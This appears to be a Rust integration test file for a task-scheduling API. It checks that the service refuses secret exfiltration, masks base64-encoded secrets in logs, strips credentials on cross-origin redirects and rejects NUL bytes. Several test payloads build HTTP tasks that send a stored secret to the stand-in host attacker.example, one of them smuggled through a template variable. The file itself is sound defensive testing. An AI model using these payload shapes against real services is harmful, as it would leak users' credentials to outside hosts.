//! Attacks on the tasks API and the HTTP action, each refused: an API key sending its owner's
//! secrets to a URL of its choosing, a secret leaked base64-encoded through an execution log,
//! credentials following a redirect to another origin, a FAILED task that cannot be fixed,
//! and NUL characters that PostgreSQL refuses turned into 500s.

use nocron::tasks::model::ActionType;
use reqwest::{Method, StatusCode};
use serde_json::{Value, json};

use crate::{
    action_support::{create_secret, run_action},
    capture::CaptureServer,
    engine_support::spawn_manual_app,
    helpers::{problem, problem_fields, spawn_app},
};

fn http_task(name: &str, config: Value) -> Value {
    json!({"name": name, "action": {"type": "HTTP_REQUEST", "config": config}})
}

/// A key with `tasks:write` but not `secrets:use` cannot create, change, copy or fill from a
/// template a task that references secrets (403 naming `secrets:use`); a key with both can,
/// and so can the owner signed in.
#[tokio::test]
async fn a_tasks_write_key_cannot_send_its_owners_secrets_to_a_url_of_its_choosing() {
    let app = spawn_app().await;
    let user = app.login_as("USER").await;
    create_secret(&app, &user, "API_TOKEN", "tok_owner_only_0123").await;
    let writer = app
        .create_api_key(&user.access_token, &["tasks:read", "tasks:write"])
        .await;
    let writer = writer["key"].as_str().expect("key");
    let trusted = app
        .create_api_key(&user.access_token, &["tasks:write", "secrets:use"])
        .await;
    let trusted = trusted["key"].as_str().expect("key");
    let exfiltrate = http_task(
        "exfiltrate",
        json!({"url": "https://attacker.example/collect",
               "headers": {"X-Leak": "{{ secrets.API_TOKEN }}"}}),
    );
    let refused_with_scope = |response: reqwest::Response| async move {
        assert_eq!(response.status(), StatusCode::FORBIDDEN);
        let problem = problem(response).await;
        assert_eq!(problem["code"], "INSUFFICIENT_SCOPE");
        assert!(
            problem["detail"]
                .as_str()
                .expect("detail")
                .contains("secrets:use"),
            "{problem}"
        );
        assert_eq!(problem_fields(&problem), ["action.config"]);
    };

    // Create.
    let response = app
        .send_json_with_key(Method::POST, writer, "/api/v1/tasks", &exfiltrate)
        .await;
    refused_with_scope(response).await;
    // A script's declared secrets count too.
    let script = json!({"name": "script", "action": {"type": "CUSTOM_SCRIPT",
        "config": {"secrets": ["API_TOKEN"], "source": "secrets.API_TOKEN"}}});
    let response = app
        .send_json_with_key(Method::POST, writer, "/api/v1/tasks", &script)
        .await;
    refused_with_scope(response).await;
    // From a template whose variable smuggles the reference in.
    let response = app
        .send_json_with_key(
            Method::POST,
            writer,
            "/api/v1/tasks/from-template/http-uptime-check",
            &json!({"variables": {"url": "https://attacker.example/?t={{ secrets.API_TOKEN }}"}}),
        )
        .await;
    refused_with_scope(response).await;

    // A plain task is fine for the writer, but pointing it at a secret is not (PATCH, PUT).
    let plain = http_task("plain", json!({"url": "https://example.com/"}));
    let created = app
        .send_json_with_key(Method::POST, writer, "/api/v1/tasks", &plain)
        .await;
    assert_eq!(created.status(), StatusCode::CREATED);
    let id = created.json::<Value>().await.expect("json")["id"]
        .as_str()
        .expect("id")
        .to_owned();
    let response = app
        .send_json_with_key(
            Method::PATCH,
            writer,
            &format!("/api/v1/tasks/{id}"),
            &json!({"action": exfiltrate["action"]}),
        )
        .await;
    refused_with_scope(response).await;
    let response = app
        .send_json_with_key(
            Method::PUT,
            writer,
            &format!("/api/v1/tasks/{id}"),
            &exfiltrate,
        )
        .await;
    refused_with_scope(response).await;

    // The owner's own task that uses a secret: the writer can neither retarget nor copy it.
    let owners = app.post_as(&user.access_token, "/tasks", &exfiltrate).await;
    assert_eq!(owners.status(), StatusCode::CREATED, "the owner may");
    let owners = owners.json::<Value>().await.expect("json")["id"]
        .as_str()
        .expect("id")
        .to_owned();
    let response = app
        .send_json_with_key(
            Method::PATCH,
            writer,
            &format!("/api/v1/tasks/{owners}"),
            &json!({"action": {"config": {"url": "https://elsewhere.example/"}}}),
        )
        .await;
    refused_with_scope(response).await;
    let response = app
        .send_json_with_key(
            Method::POST,
            writer,
            &format!("/api/v1/tasks/{owners}/duplicate"),
            &json!({}),
        )
        .await;
    refused_with_scope(response).await;

    // A key holding secrets:use as well may.
    let response = app
        .send_json_with_key(Method::POST, trusted, "/api/v1/tasks", &exfiltrate)
        .await;
    assert_eq!(response.status(), StatusCode::CREATED);
    let response = app
        .send_json_with_key(
            Method::PATCH,
            trusted,
            &format!("/api/v1/tasks/{id}"),
            &json!({"action": exfiltrate["action"]}),
        )
        .await;
    assert_eq!(response.status(), StatusCode::OK);

    // The catalogue lists the scope.
    let spec: Value = app.get("/api-json").await.json().await.expect("spec");
    let scopes = &spec["components"]["schemas"]["Scope"];
    assert!(scopes.to_string().contains("secrets:use"), "{scopes}");
}

/// A script that fetches a page echoing its secret base64-encoded, and logs it: the log line
/// and the result show `[REDACTED]`, never the encoded value.
#[tokio::test]
async fn a_secret_echoed_base64_encoded_into_an_execution_log_is_masked() {
    use base64::Engine as _;
    let app = spawn_manual_app().await;
    let sink = CaptureServer::start().await;
    let user = app.login_as("USER").await;
    // Bytes whose standard base64 has `+`, `/` and padding.
    let value = "s3cr3t>>??~~value";
    create_secret(&app, &user, "API_TOKEN", value).await;
    let encoded = base64::engine::general_purpose::STANDARD.encode(value);
    assert!(encoded.contains('+') || encoded.contains('/'), "{encoded}");

    let run = run_action(
        &app,
        &user,
        ActionType::CustomScript,
        json!({
            "secrets": ["API_TOKEN"],
            "source": r#"
                let response = http(#{
                    url: input.base + "/echo-base64",
                    headers: #{ "x-echo": secrets.API_TOKEN }
                });
                log("upstream said: " + response.body);
                response.body
            "#
        }),
        json!({"base": sink.base}),
    )
    .await;
    assert_eq!(run.status, "SUCCEEDED", "{:?} {:?}", run.error, run.logs);
    assert_eq!(
        sink.requests()[0].headers["x-echo"],
        value,
        "the secret was sent"
    );
    assert!(
        run.logs
            .contains(&"INFO upstream said: echo [REDACTED]".to_owned()),
        "{:?}",
        run.logs
    );
    assert_eq!(run.outcome, json!("echo [REDACTED]"));
    assert!(!run.text.contains(&encoded), "{}", run.text);
    assert!(!run.text.contains(value));
}

/// An HTTP action's credentials (`Authorization`, `Cookie`, `Proxy-Authorization` headers
/// and its `auth`) are not sent to the other origin a redirect points to; a redirect within
/// the origin keeps them.
#[tokio::test]
async fn a_cross_origin_redirect_does_not_receive_the_configured_credentials() {
    let app = spawn_manual_app().await;
    let user = app.login_as("USER").await;
    let origin = CaptureServer::start().await;
    let other = CaptureServer::start().await;
    let other_port = other.base.rsplit(':').next().expect("port").to_owned();
    let credentials = [
        "authorization",
        "cookie",
        "proxy-authorization",
        "x-api-key",
    ];
    let configs = [
        json!({
            "url": origin.url(&format!("/redirect-to-localhost/{other_port}")),
            "headers": {
                "Authorization": "Bearer header-token-123",
                "Cookie": "session=cookie-456",
                "Proxy-Authorization": "Basic cHJveHk6cGFzcw==",
                "X-Api-Key": "key-in-headers-789",
                "X-Trace": "trace-1"
            }
        }),
        json!({
            "url": origin.url(&format!("/redirect-to-localhost/{other_port}")),
            "headers": {"X-Trace": "trace-2", "X-Partner-Key": "key-also-by-hand"},
            "auth": {"type": "header", "name": "X-Partner-Key", "value": "key-in-auth-789"}
        }),
        json!({
            "url": origin.url(&format!("/redirect-to-localhost/{other_port}")),
            "headers": {"X-Trace": "trace-3"},
            "auth": {"type": "bearer", "token": "bearer-in-auth-012"}
        }),
    ];
    for config in &configs {
        let run = run_action(
            &app,
            &user,
            ActionType::HttpRequest,
            config.clone(),
            json!({}),
        )
        .await;
        assert_eq!(run.status, "SUCCEEDED", "{:?}", run.error);
    }
    let first_hops = origin.requests();
    let second_hops = other.requests();
    assert_eq!((first_hops.len(), second_hops.len()), (3, 3));
    for (first, second) in first_hops.iter().zip(&second_hops) {
        assert!(
            first.headers.contains_key("authorization")
                || first.headers.contains_key("x-partner-key"),
            "the origin got the credentials: {:?}",
            first.headers
        );
        for name in credentials {
            assert!(
                !second.headers.contains_key(name),
                "{name} crossed to the other origin: {:?}",
                second.headers
            );
        }
        assert!(
            second.headers["x-trace"].starts_with("trace-"),
            "other headers stay"
        );
    }

    // Within the origin, a redirect keeps them.
    let same = json!({
        "url": origin.url("/redirect/1"),
        "headers": {"Cookie": "session=same-origin"},
        "auth": {"type": "bearer", "token": "same-origin-token"}
    });
    let run = run_action(&app, &user, ActionType::HttpRequest, same, json!({})).await;
    assert_eq!(run.status, "SUCCEEDED", "{:?}", run.error);
    let landed = origin.requests_to("/ok");
    let landed = landed.last().expect("the redirect was followed");
    assert_eq!(landed.headers["authorization"], "Bearer same-origin-token");
    assert_eq!(landed.headers["cookie"], "session=same-origin");
}

/// A task the engine set FAILED is fixed by a PATCH that leaves `status` out (it stays
/// FAILED), or by a PUT that sends back the FAILED it read; asking for FAILED on a task that is
/// not is still refused.
#[tokio::test]
async fn a_failed_task_can_be_fixed_without_mentioning_its_status() {
    let app = spawn_app().await;
    let user = app.login_as("USER").await;
    let token = &user.access_token;
    let created = app
        .post_as(
            token,
            "/tasks",
            &http_task("broken", json!({"url": "https://wrong.example/"})),
        )
        .await;
    assert_eq!(created.status(), StatusCode::CREATED);
    let id = created.json::<Value>().await.expect("json")["id"]
        .as_str()
        .expect("id")
        .to_owned();
    sqlx::query("UPDATE tasks SET status = 'FAILED' WHERE id = $1::uuid")
        .bind(&id)
        .execute(&app.db)
        .await
        .expect("the engine's verdict");
    let path = format!("/tasks/{id}");

    let fixed = app
        .patch_as(
            token,
            &path,
            &json!({"action": {"config": {"url": "https://right.example/"}}}),
        )
        .await;
    assert_eq!(fixed.status(), StatusCode::OK);
    let fixed: Value = fixed.json().await.expect("json");
    assert_eq!(fixed["action"]["config"]["url"], "https://right.example/");
    assert_eq!(fixed["status"], "FAILED", "fixing is not resuming");

    let mut read: Value = app.get_json_as(token, &path).await;
    read["description"] = json!("fixed by PUT");
    let put = app.put_as(token, &path, &read).await;
    assert_eq!(put.status(), StatusCode::OK);
    assert_eq!(put.json::<Value>().await.expect("json")["status"], "FAILED");

    let resumed = app
        .patch_as(token, &path, &json!({"status": "ACTIVE"}))
        .await;
    assert_eq!(resumed.status(), StatusCode::OK);
    assert_eq!(
        resumed.json::<Value>().await.expect("json")["status"],
        "ACTIVE"
    );

    for response in [
        app.patch_as(token, &path, &json!({"status": "FAILED"}))
            .await,
        app.put_as(token, &path, &read).await,
    ] {
        assert_eq!(response.status(), StatusCode::UNPROCESSABLE_ENTITY);
        assert_eq!(problem_fields(&problem(response).await), ["status"]);
    }
}

/// NUL characters, which PostgreSQL refuses in text and jsonb, are a 422 naming the field
/// wherever they come in: a task's name, a nested config value, a key, the `q` search, a
/// path parameter, other routes' bodies, and a webhook delivery.
#[tokio::test]
async fn a_nul_character_in_any_input_is_a_422_naming_the_field_not_a_500() {
    let app = spawn_app().await;
    let user = app.login_as("USER").await;
    let token = &user.access_token;
    let expect_422 = |response: reqwest::Response, field: &'static str| async move {
        assert_eq!(
            response.status(),
            StatusCode::UNPROCESSABLE_ENTITY,
            "{field}"
        );
        let problem = problem(response).await;
        assert_eq!(problem_fields(&problem), [field], "{problem}");
        assert!(problem["detail"].as_str().expect("detail").contains("NUL"));
    };

    let response = app
        .post_as(
            token,
            "/tasks",
            &http_task("bad\u{0}name", json!({"url": "https://example.com/"})),
        )
        .await;
    expect_422(response, "name").await;
    let response = app
        .post_as(
            token,
            "/tasks",
            &http_task(
                "nested",
                json!({"url": "https://example.com/", "headers": {"X-Trace": "a\u{0}b"}}),
            ),
        )
        .await;
    expect_422(response, "action.config.headers.X-Trace").await;
    let response = app
        .post_as(
            token,
            "/tasks",
            &json!({"name": "tags", "tags": ["ok", "\u{0}"],
                    "action": {"type": "HTTP_REQUEST", "config": {"url": "https://example.com/"}}}),
        )
        .await;
    expect_422(response, "tags[1]").await;

    let response = app.get_as(token, "/tasks?q=a%00b").await;
    expect_422(response, "query.q").await;
    let response = app.get_as(token, "/tasks?tag=%00").await;
    expect_422(response, "query.tag").await;
    let response = app
        .post_as(token, "/tasks/from-template/x%00y", &json!({}))
        .await;
    expect_422(response, "id").await;

    // A task that exists: PATCH and PUT go through the same check.
    let created = app
        .post_as(
            token,
            "/tasks",
            &http_task("fine", json!({"url": "https://example.com/"})),
        )
        .await;
    let id = created.json::<Value>().await.expect("json")["id"]
        .as_str()
        .expect("id")
        .to_owned();
    let response = app
        .patch_as(
            token,
            &format!("/tasks/{id}"),
            &json!({"description": "x\u{0}"}),
        )
        .await;
    expect_422(response, "description").await;

    // Other routes: secrets, templates, auth.
    let response = app
        .post_as(
            token,
            "/secrets",
            &json!({"name": "NULLED", "value": "v\u{0}v"}),
        )
        .await;
    expect_422(response, "value").await;
    let response = app
        .post_json(
            "/auth/login",
            &json!({"email": "someone\u{0}@example.com", "password": "whatever-password"}),
        )
        .await;
    expect_422(response, "email").await;
}

/// A webhook delivery whose body holds `\u0000` is a 422 naming the field, not a 500 from
/// the jsonb insert.
#[tokio::test]
async fn a_nul_character_in_a_webhook_delivery_is_a_422_naming_the_field() {
    let app = spawn_manual_app().await;
    let (user, task) = app.user_with_task("http://127.0.0.1:9/").await;
    let response = app
        .post_as(
            &user.access_token,
            &format!("/tasks/{}/webhooks", task.id),
            &json!({}),
        )
        .await;
    assert_eq!(response.status(), StatusCode::CREATED);
    let created: Value = response.json().await.expect("json");
    let url = app.url(&format!(
        "/hooks/{}",
        created["token"].as_str().expect("token")
    ));
    let response = app
        .client
        .post(&url)
        .header("content-type", "application/json")
        .body(r#"{"event": {"title": "a\u0000b"}}"#)
        .send()
        .await
        .expect("send");
    assert_eq!(response.status(), StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(
        problem_fields(&problem(response).await),
        ["body.event.title"]
    );
    let response = app
        .client
        .post(format!("{url}?who=a%00"))
        .header("content-type", "application/json")
        .body("{}")
        .send()
        .await
        .expect("send");
    assert_eq!(response.status(), StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(problem_fields(&problem(response).await), ["query.who"]);
}
